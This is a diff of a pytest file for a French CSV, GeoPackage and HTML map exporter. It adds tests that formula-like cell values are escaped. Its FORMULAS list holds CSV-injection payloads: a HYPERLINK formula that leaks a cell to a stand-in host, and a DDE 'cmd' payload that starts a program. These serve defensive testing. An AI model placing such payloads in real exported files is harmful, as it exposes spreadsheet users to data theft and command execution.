@@ -1,6 +1,8 @@
 """Exports: offline HTML map, GeoPackage layers and CSV for a French Excel."""
 
+import csv
 import datetime as dt
+import io
 import re
 
 import geopandas as gpd
@@ -10,14 +12,15 @@ import pyogrio
 import pytest
 import shapely
 
-from geo.exports import (
+from geo.render import (
+    commune_map,
     export_csv_fr,
     export_geopackage,
     export_html,
     read_csv_fr,
+    remote_references,
     sanitize_layer_name,
 )
-from geo.maps import commune_map, remote_references
 
 
 def test_export_html_is_offline(territory, tmp_path):
@@ -129,3 +132,56 @@ def test_csv_datetimes_keep_time(tmp_path):
     frame["quand"] = pd.to_datetime(frame["quand"])
     text = export_csv_fr(frame, tmp_path / "t.csv").read_text(encoding="utf-8-sig")
     assert "2026-05-12T14:30:00" in text
+
+
+FORMULAS = [
+    '=HYPERLINK("https://exemple.invalid/?d="&A1;"Cliquez ici")',
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    "@SUM(A1:A9)",
+    "-1+2",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _cells(path) -> list[list[str]]:
+    text = path.read_bytes().decode("utf-8-sig")
+    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
+
+
+def test_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
+    texts = [*FORMULAS, "Aigné", "'=déjà échappé", "Le Mans - centre"]
+    frame = pd.DataFrame(
+        {
+            "nom": texts,
+            "écart": np.linspace(-1.5, 1.5, len(texts)),
+            "rang": np.arange(-5, len(texts) - 5),
+        }
+    )
+    path = export_csv_fr(frame, tmp_path / "formules.csv")
+    rows = _cells(path)
+    assert rows[0] == ["nom", "écart", "rang"]
+    names = [row[0] for row in rows[1:]]
+    assert names[: len(FORMULAS)] == ["'" + f for f in FORMULAS]
+    assert names[len(FORMULAS) :] == ["Aigné", "''=déjà échappé", "Le Mans - centre"]
+    # Numbers stay numbers, negative ones included: no apostrophe, decimal comma.
+    assert rows[1][1:] == ["-1,5", "-5"]
+    assert all(not cell.startswith("'") for row in rows[1:] for cell in row[1:])
+    back = read_csv_fr(path)
+    assert back["nom"].tolist() == texts
+    np.testing.assert_allclose(back["écart"], frame["écart"])
+    assert back["rang"].tolist() == frame["rang"].tolist()
+
+
+def test_csv_neutralises_headers_index_and_categories(tmp_path):
+    frame = pd.DataFrame(
+        {"=cmd": pd.Categorical(["@SUM(A1)", "ok"]), "valeur": [1, 2]},
+        index=pd.Index(["+33 6", "72001"], name="-code"),
+    )
+    rows = _cells(export_csv_fr(frame, tmp_path / "entetes.csv"))
+    assert rows[0] == ["'-code", "'=cmd", "valeur"]
+    assert rows[1] == ["'+33 6", "'@SUM(A1)", "1"]
+    back = read_csv_fr(tmp_path / "entetes.csv", index_col="-code")
+    assert back.index.tolist() == ["+33 6", "72001"]
+    assert back["=cmd"].tolist() == ["@SUM(A1)", "ok"]
